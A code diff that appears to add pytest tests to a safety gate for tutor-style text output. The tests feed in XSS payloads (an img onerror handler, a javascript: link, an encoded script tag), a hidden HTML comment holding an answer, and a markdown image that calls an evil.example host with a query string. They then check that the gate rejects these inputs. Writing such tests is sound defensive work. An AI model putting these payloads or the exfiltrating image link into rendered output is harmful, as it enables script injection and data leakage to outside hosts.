@@ -258,3 +258,28 @@ def test_a_solution_is_not_given_away_piece_by_piece(room: Judged) -> None:
     assert RejectionReason.LEAK in reasons[1:]
     innocent = draft("k9", text="Which number do you divide by?", expected_hash=at.cell.hash if at.cell else "")
     assert room.reason(innocent, at) is None
+
+
+@pytest.mark.proves("gate:harmless")
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Look at line 1. ![chart](https://evil.example/c.png?who=me)",
+        "See <img src=x onerror=alert(1)> in line 1.",
+        "Line 1 <!-- the answer is 3 -->",
+        "[line 1](javascript:alert(1))",
+        "Line 1 &lt;script&gt;alert(1)&lt;/script&gt;",
+    ],
+)
+def test_what_a_browser_would_act_on_is_shown_from_no_door(text: str) -> None:
+    judged = Judged()
+    assert judged.reason(draft(text=text)) is RejectionReason.UNSAFE
+    assert judged.reason(draft("asked", text=text), situation(asked=True)) is RejectionReason.UNSAFE
+    assert judged.reason(draft("proposal", text=text, placement=Placement.PROPOSAL)) is None
+
+
+@pytest.mark.parametrize(
+    "text", ["Is `a <b` in line 1?", "It is of <class 'int'>.", "```html\n<img src=x>\n```", "data: 3"]
+)
+def test_code_and_talk_about_it_are_harmless(text: str) -> None:
+    assert Judged().reason(draft(text=text)) is None
